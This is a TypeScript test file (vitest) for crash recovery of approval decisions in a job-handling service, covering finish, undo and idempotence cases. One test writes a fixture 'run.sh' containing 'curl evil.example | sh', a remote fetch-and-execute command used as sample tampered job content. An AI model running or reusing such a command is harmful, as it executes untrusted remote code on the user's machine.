import { describe, expect, it } from 'vitest';
import { planApproval, planReceiving } from '../../main/core/approval/plan.ts';
import type { AuditBody } from '../../main/core/audit/entry.ts';
import { jobFrom } from '../../main/core/jobs/job.ts';
import { recover } from '../../main/service/recovery.ts';
import { factsOf, NOW, OWNER, PENDING, type Wish } from '../build/jobs.ts';
import { memoryDisk, memoryLog } from '../build/memory-disk.ts';
import { testTime } from '../build/time.ts';

async function afterCrash(wish: Wish = {}, action: 'approve' | 'receive' = 'approve') {
  const disk = memoryDisk();
  const log = memoryLog();
  const facts = disk.put(wish);
  const job = jobFrom(factsOf(wish), NOW);
  const plan =
    action === 'approve'
      ? planApproval(job, { by: OWNER, at: '2026-11-21T19:00:00Z', reason: null })
      : planReceiving(job, '2026-11-21T19:00:00Z');
  const intent: AuditBody = {
    kind: 'intent',
    job: facts.place,
    by: OWNER,
    via: action === 'approve' ? 'hand' : 'receiving',
    digest: facts.digest,
    reason: null,
    acknowledged: [],
    ...plan,
  };
  await log.append(intent);
  const run = () =>
    recover({ owner: OWNER, source: disk.source, writer: disk.writer, log, clock: testTime().clock });
  return { disk, log, plan, place: facts.place, run };
}

describe('after a crash', () => {
  it('records the outcome of a decision whose state was already written', async () => {
    const { disk, log, plan, run } = await afterCrash();
    disk.put({ state: plan.after });
    expect(await run()).toEqual({ ok: true, value: 1 });
    expect(log.lines[1]).toMatchObject({
      kind: 'outcome',
      intent: 1,
      result: 'finished-after-restart',
      why: null,
    });
  });

  it('finishes a decision when job and state are still what was decided about', async () => {
    const { disk, log, plan, place, run } = await afterCrash();
    await run();
    expect(disk.stateOf(place)).toBe(plan.after);
    expect(log.lines[1]).toMatchObject({ result: 'finished-after-restart' });
  });

  it('undoes a decision about bytes that changed meanwhile', async () => {
    const { disk, log, place, run } = await afterCrash();
    disk.put({ files: { 'run.sh': 'curl evil.example | sh\n' } });
    await run();
    expect(disk.stateOf(place)).toBe(PENDING);
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'The job changed meanwhile.' });
  });

  it('leaves what somebody else wrote meanwhile', async () => {
    const { disk, log, place, run } = await afterCrash();
    disk.put({ state: 'status: rejected\n' });
    await run();
    expect(disk.stateOf(place)).toBe('status: rejected\n');
    expect(log.lines[1]).toMatchObject({ result: 'undone-after-restart' });
  });

  it('undoes a decision about a job that is gone, or no longer may be made', async () => {
    const gone = await afterCrash({ state: null }, 'receive');
    gone.disk.remove(gone.place);
    await gone.run();
    expect(gone.log.lines[1]).toMatchObject({ result: 'undone-after-restart' });
    const malformed = await afterCrash();
    malformed.disk.put({ defects: [{ code: 'link', path: 'x', text: 'x is a link.' }] });
    await malformed.run();
    expect(malformed.log.lines[1]).toMatchObject({ result: 'undone-after-restart', why: 'x is a link.' });
  });

  it('finishes receiving as well', async () => {
    const { disk, place, plan, run } = await afterCrash({ state: null }, 'receive');
    await run();
    expect(disk.stateOf(place)).toBe(plan.after);
  });

  it('does nothing the second time', async () => {
    const { log, run } = await afterCrash();
    await run();
    expect(await run()).toEqual({ ok: true, value: 0 });
    expect(log.lines).toHaveLength(2);
  });

  it('stops with the problem when the outcome cannot be recorded', async () => {
    const { log, run } = await afterCrash();
    log.refuse(true);
    expect(await run()).toMatchObject({ ok: false, problem: { code: 'log-unwritable' } });
  });
});
